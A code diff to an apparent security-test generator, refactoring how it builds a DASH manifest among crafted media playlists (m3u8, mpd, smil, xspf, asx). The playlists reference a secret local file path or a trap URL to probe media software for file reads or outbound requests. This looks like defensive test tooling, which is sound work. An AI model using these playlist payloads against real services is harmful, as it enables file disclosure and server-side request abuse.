@@ -25,10 +25,10 @@ def attack_files(secret: Path, trap: str, udp: int) -> Iterator[tuple[str, bytes
     ):
         yield "a.m3u8", playlist.format(target).encode()
         yield "a.mp3", playlist.format(target).encode()
-    yield (
-        "a.mpd",
-        f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>{secret}</BaseURL></Representation></AdaptationSet></Period></MPD>'.encode(),
-    )  # noqa: E501
+    stream = f'<Representation id="1" bandwidth="1"><BaseURL>{secret}</BaseURL></Representation>'
+    adaptation = f'<AdaptationSet mimeType="audio/mp4">{stream}</AdaptationSet>'
+    head = '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">'
+    yield "a.mpd", f"{head}<Period>{adaptation}</Period></MPD>".encode()
     yield "a.smil", f'<smil><audio src="{secret}"/></smil>'.encode()
     yield "a.xspf", f"<playlist><track><location>file://{secret}</location></track></playlist>".encode()
     yield "a.asx", f'<asx><entry><ref href="{trap}"/></entry></asx>'.encode()
